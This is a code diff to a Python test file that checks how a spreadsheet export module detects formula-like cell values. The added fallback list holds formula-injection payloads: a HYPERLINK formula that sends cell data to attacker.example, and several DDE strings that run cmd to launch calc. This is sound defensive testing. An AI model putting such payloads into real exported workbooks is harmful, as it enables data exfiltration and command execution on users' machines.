@@ -10,7 +10,7 @@ from openpyxl import load_workbook
 from exports import xlsx_writer
 from exports.document_context import Provenance
 from exports.tabular import Column, FrontSheet, Sheet
-from tests.attendance_scenario import nasty_texts
+from tests.attendance_scenario import nasty_texts, needs_nasty_contacts
 
 MADE = Provenance(
     organisation="=Wyvernshire",
@@ -21,7 +21,16 @@ MADE = Provenance(
 FRONT = FrontSheet(
     title="Test workbook", holds="Things", period="Autumn", provenance=MADE, facts=(("Count", 3),)
 )
-FORMULA_LIKE = [t for t in nasty_texts() if xlsx_writer.is_formula_like(t)]
+# The shared list's formula-like values, or (without it) one of each kind it holds.
+FORMULA_LIKE = [t for t in nasty_texts() if xlsx_writer.is_formula_like(t)] or [
+    '=HYPERLINK("http://attacker.example/?d="&A2,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=2+2",
+    "＝1+1",
+]
 
 
 @pytest.fixture(params=["normal", "write-only"])
@@ -42,6 +51,7 @@ def text_sheet(values, title="Names"):
     return Sheet(title, title, "names", (Column("Name"),), [(v,) for v in values], len(values))
 
 
+@needs_nasty_contacts
 def test_the_nasty_list_really_holds_every_kind_of_formula():
     starts = {t.lstrip(xlsx_writer.LEADING_NOISE)[0] for t in FORMULA_LIKE}
     assert starts == {"=", "+", "-", "@", "＝"}
